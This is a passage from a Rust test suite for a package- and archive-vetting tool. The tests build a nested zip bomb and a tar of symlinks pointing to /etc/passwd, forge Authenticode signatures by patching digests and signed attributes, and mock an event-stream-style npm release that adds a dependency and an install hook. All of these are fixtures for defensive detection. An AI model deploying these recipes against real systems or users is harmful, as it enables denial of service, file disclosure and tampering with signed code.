         layer = copies(bytes(16 << 20), '.bin')\n\
         for _ in range(3):\n\
         \x20   layer = copies(layer, '.zip')\n\
         open('42.zip', 'wb').write(layer)\n",
    ]));
    let bomb = dir.path().join("42.zip");
    let size = std::fs::metadata(&bomb).unwrap().len();
    assert!(size < 128 << 10, "{size} bytes");
    let (code, report) = vet(&[&bomb]);
    assert_eq!(code, Some(1));
    let findings = report["findings"].as_array().unwrap();
    assert!(
        findings.iter().all(|f| f["id"] == "archive.bomb"),
        "{findings:#?}"
    );
    assert!(findings.len() <= 2, "{findings:#?}");
    let stop = findings
        .iter()
        .find(|f| f["message"].as_str().unwrap().contains("nested archives"))
        .expect("the whole artifact's limit is named");
    assert!(stop["repeated"].is_null());
}

#[test]
fn identical_findings_on_many_files_are_one_finding_with_a_count() {
    if !have("python3") {
        println!("skipped: python3 is needed to build the archive");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    run(Command::new("python3").current_dir(dir.path()).args([
        "-c",
        "import tarfile\n\
         with tarfile.open('links.tar', 'w') as t:\n\
         \x20   for i in range(50):\n\
         \x20       info = tarfile.TarInfo('link%02d' % i)\n\
         \x20       info.type = tarfile.SYMTYPE\n\
         \x20       info.linkname = '/etc/passwd'\n\
         \x20       t.addfile(info)\n",
    ]));
    let (code, report) = vet(&[&dir.path().join("links.tar")]);
    assert_eq!(code, Some(1));
    let findings = report["findings"].as_array().unwrap();
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0]["id"], "archive.symlink");
    assert_eq!(findings[0]["file"], "links.tar!/link00");
    assert_eq!(findings[0]["repeated"]["count"], 50);
    let others = findings[0]["repeated"]["files"].as_array().unwrap();
    assert_eq!(others.len(), 20);
    assert_eq!(others[0], "links.tar!/link01");
}

/// `osslsigncode verify`'s two digests of a signed file: the one stored in
/// the signature and the one it computes.
fn stored_and_computed_digests(file: &Path) -> (Vec<u8>, Vec<u8>) {
    let out = Command::new("osslsigncode")
        .args(["verify", "-in"])
        .arg(file)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let digest = |label: &str| -> Vec<u8> {
        let line = text
            .lines()
            .find(|l| l.starts_with(label))
            .unwrap_or_else(|| panic!("{label} in {text}"));
        let hex = line
            .split_once(':')
            .unwrap()
            .1
            .split_whitespace()
            .next()
            .unwrap();
        (0..hex.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap())
            .collect()
    };
    (
        digest("Current message digest"),
        digest("Calculated message digest"),
    )
}

/// Whether `osslsigncode verify` accepts the signature's cryptography
/// (the self-signed chain aside, which it always refuses here).
fn osslsigncode_signature_ok(file: &Path) -> bool {
    let out = Command::new("osslsigncode")
        .args(["verify", "-in"])
        .arg(file)
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    !text.contains("Signature verification: failed")
        && !text.contains("signature failure")
        && !text.contains("digest failure")
        && !text.contains("MISMATCH")
}

fn replace_once(data: &mut [u8], from: &[u8], to: &[u8]) {
    let at: Vec<usize> = data
        .windows(from.len())
        .enumerate()
        .filter(|(_, w)| *w == from)
        .map(|(i, _)| i)
        .collect();
    assert_eq!(at.len(), 1, "exactly one occurrence");
    data[at[0]..at[0] + to.len()].copy_from_slice(to);
}

#[test]
fn forged_signatures_are_caught_and_real_ones_verify() {
    let Some(fx) = Fixtures::new() else { return };
    let dir = fx.path("forged");
    std::fs::create_dir_all(&dir).unwrap();
    let signed = fx.dll("helper.dll", HELPER, "1,0,0,0", &[]);
    fx.sign(&signed);
    let original = std::fs::read(&signed).unwrap();

    // The genuine signature verifies, the chain named.
    let (code, report) = vet(&[&signed]);
    assert_eq!(code, Some(0), "{report:#}");
    let ids = ids_for(&report, "helper.dll");
    assert!(!ids.contains(&"authenticode.bad-signature"), "{ids:?}");
    let info = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "info.signed")
        .unwrap();
    assert!(
        info["evidence"]["chain"][0]
            .as_str()
            .unwrap()
            .contains("Turncoat Test Signer"),
        "{info:#}"
    );

    // (a) Code changed, and the stored image digest rewritten to match:
    // the digest comparison passes, the signature does not.
    let mut pe = original.clone();
    let code_byte = object_text_offset(&pe) + 16;
    pe[code_byte] ^= 0xff;
    let a = dir.join("digest-rewritten.dll");
    std::fs::write(&a, &pe).unwrap();
    let (stored, computed) = stored_and_computed_digests(&a);
    assert_ne!(stored, computed);
    replace_once(&mut pe, &stored, &computed);
    std::fs::write(&a, &pe).unwrap();
    let (stored, computed) = stored_and_computed_digests(&a);
    assert_eq!(stored, computed, "the stored digest now matches");
    assert!(!osslsigncode_signature_ok(&a), "osslsigncode refuses it");

    // (b) A signed attribute altered: the statement type
    // 1.3.6.1.4.1.311.2.1.21 (individual) made .22 (commercial).
    let mut pe = original.clone();
    let individual = [0x2b, 0x06, 0x01, 0x04, 0x01, 0x82, 0x37, 0x02, 0x01, 0x15];
    let mut commercial = individual;
    commercial[9] = 0x16;
    replace_once(&mut pe, &individual, &commercial);
    let b = dir.join("attributes-altered.dll");
    std::fs::write(&b, &pe).unwrap();
    assert!(!osslsigncode_signature_ok(&b), "osslsigncode refuses it");

    for (file, why) in [
        (&a, "message-digest attribute"),
        (&b, "signature over the attributes"),
    ] {
        let (code, report) = vet(&[file.as_path()]);
        assert_eq!(code, Some(1), "{report:#}");
        assert_eq!(report["verdict"], "malicious", "{report:#}");
        let f = report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["id"] == "authenticode.bad-signature")
            .unwrap_or_else(|| panic!("{}: {report:#}", file.display()));
        assert_eq!(f["severity"], "critical");
        assert!(f["message"].as_str().unwrap().contains(why), "{f:#}");
        let ids = ids_for(&report, ".dll");
        assert!(!ids.contains(&"authenticode.digest-mismatch"), "{ids:?}");
        assert!(!ids.contains(&"info.signed"), "{ids:?}");
    }

    // (c) The same name with a new key, an ECDSA P-256 one: the signature
    // is valid, the signer changed.
    fx.certificate(
        "key2.pem",
        "cert2.pem",
        &["ec", "-pkeyopt", "ec_paramgen_curve:P-256"],
    );
    let old = fx.path("old-release");
    let new = fx.path("new-release");
    std::fs::create_dir_all(&old).unwrap();
    std::fs::create_dir_all(&new).unwrap();
    std::fs::write(old.join("helper.dll"), &original).unwrap();
    let resigned = fx.dll("helper.dll", HELPER, "1,0,0,0", &[]);
    fx.sign_with(&resigned, "key2.pem", "cert2.pem");
    std::fs::rename(&resigned, new.join("helper.dll")).unwrap();
    let (code, report) = vet(&[&new]);
    assert_eq!(code, Some(0), "an ECDSA signature verifies: {report:#}");
    let (code, report) = vet(&[&new, Path::new("--against"), &old]);
    assert_eq!(code, Some(1));
    let f = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["id"] == "authenticode.signer-changed")
        .unwrap_or_else(|| panic!("{report:#}"));
    assert_eq!(f["severity"], "high");
    assert!(
        f["message"].as_str().unwrap().contains("another key"),
        "{f:#}"
    );
    assert_ne!(
        f["evidence"]["before"]["key"],
        f["evidence"]["after"]["key"]
    );

    // --trust: the first certificate is a root, the second is not.
    let roots = fx.path("roots");
    std::fs::create_dir_all(&roots).unwrap();
    std::fs::copy(fx.path("cert.pem"), roots.join("root.pem")).unwrap();
    let trusted = |file: &Path| {
        let (_, report) = vet(&[file, Path::new("--trust"), &roots]);
        !ids_for(&report, ".dll").contains(&"authenticode.untrusted-root")
    };
    assert!(trusted(&old.join("helper.dll")));
    assert!(!trusted(&new.join("helper.dll")));
}

/// Real consecutive releases as npm, PyPI and crates.io publish them (the
/// list in `tests/releases/benign-pairs.txt`, fetched by
/// `.ci/fetch-releases` into `$TURNCOAT_TEST_RELEASES`): at least 95% of the
/// pairs must vet clean, or release engineers learn to ignore the verdict.
#[test]
fn benign_consecutive_releases_vet_clean() {
    let Some(dir) = std::env::var_os("TURNCOAT_TEST_RELEASES").map(PathBuf::from) else {
        eprintln!(
            "skipped: TURNCOAT_TEST_RELEASES is unset (.ci/fetch-releases DIR fetches the corpus)"
        );
        return;
    };
    let list = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/releases/benign-pairs.txt"),
    )
    .unwrap();
    let find = |eco: &str, name: &str, version: &str| -> PathBuf {
        let folder = dir.join(eco).join(name);
        let mut hits: Vec<PathBuf> = std::fs::read_dir(&folder)
            .unwrap_or_else(|e| panic!("{}: {e}", folder.display()))
            .map(|e| e.unwrap().path())
            .filter(|p| {
                // The version between the name and the extension or tags.
                let n = p.file_name().unwrap().to_string_lossy();
                n.contains(&format!("-{version}.")) || n.contains(&format!("-{version}-"))
            })
            .collect();
        assert_eq!(hits.len(), 1, "{eco} {name} {version}: {hits:?}");
        hits.pop().unwrap()
    };
    let (mut pairs, mut noisy) = (0, Vec::new());
    for line in list
        .lines()
        .filter(|l| !l.starts_with('#') && !l.trim().is_empty())
    {
        let fields: Vec<&str> = line.split_whitespace().collect();
        let [eco, name, old, new] = fields[..] else {
            panic!("bad line {line:?}")
        };
        let (old, new) = (find(eco, name, old), find(eco, name, new));
        let (code, report) = vet(&[&new, Path::new("--against"), &old]);
        pairs += 1;
        if report["verdict"] != "clean" {
            let findings: Vec<String> = report["findings"]
                .as_array()
                .unwrap()
                .iter()
                .filter(|f| f["severity"] != "info")
                .map(|f| format!("{} {}", f["id"], f["file"]))
                .collect();
            noisy.push(format!(
                "{line}: {} (exit {code:?}) {findings:?}",
                report["verdict"]
            ));
        }
    }
    eprintln!(
        "{} of {pairs} benign release pairs clean",
        pairs - noisy.len()
    );
    for n in &noisy {
        eprintln!("  {n}");
    }
    assert!(pairs >= 30, "only {pairs} pairs");
    assert!(
        (pairs - noisy.len()) * 100 >= pairs * 95,
        "{} of {pairs} not clean",
        noisy.len()
    );
}

/// How event-stream was turned, as two npm tarballs named after their
/// versions: a patch release that adds a dependency is named for it,
/// with its requirement though nothing pins it; an install hook the
/// previous release had is informational, a new one is not; a release
/// that changes only its version and README is clean.
#[test]
fn a_new_dependency_or_install_hook_is_named_and_a_version_bump_is_clean() {
    let dir = tempfile::tempdir().unwrap();
    let release = |version: &str, manifest: &str, readme: &str| {
        let root = dir.path().join(version);
        std::fs::create_dir_all(root.join("package/lib")).unwrap();
        std::fs::write(root.join("package/package.json"), manifest).unwrap();
        std::fs::write(root.join("package/README.md"), readme).unwrap();
        std::fs::write(
            root.join("package/lib/index.js"),
            "module.exports = function (s) { return s.map(String); };\n",
        )
        .unwrap();
        let tgz = dir.path().join(format!("event-stream-{version}.tgz"));
        run(Command::new("tar")
            .arg("czf")
            .arg(&tgz)
            .arg("-C")
            .arg(&root)
            .arg("package"));
        tgz
    };
    let manifest = |version: &str, deps: &str, scripts: &str| {
        format!(
            r#"{{"name":"event-stream","version":"{version}","dependencies":{{{deps}}},"scripts":{{{scripts}}}}}"#
        )
    };
    let deps = r#""duplexer":"~0.1.1","through":"~2.3.1""#;
    let hook = r#""install":"node-gyp rebuild""#;
    let v5 = release("3.3.5", &manifest("3.3.5", deps, hook), "# event-stream\n");
    let v6 = release(
        "3.3.6",
        &manifest(
            "3.3.6",
            &format!(r#"{deps},"flatmap-stream":"^0.1.0""#),
            hook,
        ),
        "# event-stream\nSee https://github.com/dominictarr/event-stream\n",
    );
    let (code, report) = vet(&[&v6, Path::new("--against"), &v5]);
    assert_eq!(
        (code, report["verdict"].as_str()),
        (Some(1), Some("suspicious")),
        "{report:#}"
    );
    let findings = report["findings"].as_array().unwrap();
    let loud: Vec<(&str, &str)> = findings
        .iter()
        .filter(|f| f["severity"] != "info")
        .map(|f| (f["id"].as_str().unwrap(), f["message"].as_str().unwrap()))
        .collect();
    assert_eq!(
        loud,
        [(
            "diff.new-dependency",
            "new dependency flatmap-stream (^0.1.0)"
        )],
        "{report:#}"
    );
    let install = findings
        .iter()
        .find(|f| f["id"] == "package.install-script")
        .expect("the hook is still reported");
    assert_eq!(install["severity"], "info", "{install:#}");

    // A new hook in the next release is not the old one.
    let v7 = release(
        "3.3.7",
        &manifest(
            "3.3.7",
            deps,
            &format!(r#"{hook},"postinstall":"node lib/index.js""#),
        ),
        "# event-stream\n",
    );
    let (_, report) = vet(&[&v7, Path::new("--against"), &v5]);
    let hooks: Vec<(&str, &str)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["id"] == "package.install-script")
        .map(|f| {
            (
                f["evidence"]["hook"].as_str().unwrap(),
                f["severity"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        hooks,
        [
            ("scripts.install", "info"),
            ("scripts.postinstall", "medium")
        ],
        "{report:#}"
    );

    // Only the version and the README changed: clean.
    let v8 = release(
        "3.3.8",
        &manifest("3.3.8", deps, hook),
        "# event-stream\nNew docs at https://example.org/es\n",
    );
    let (code, report) = vet(&[&v8, Path::new("--against"), &v5]);
    assert_eq!(
        (code, report["verdict"].as_str()),
        (Some(0), Some("clean")),
        "{report:#}"
    );
}
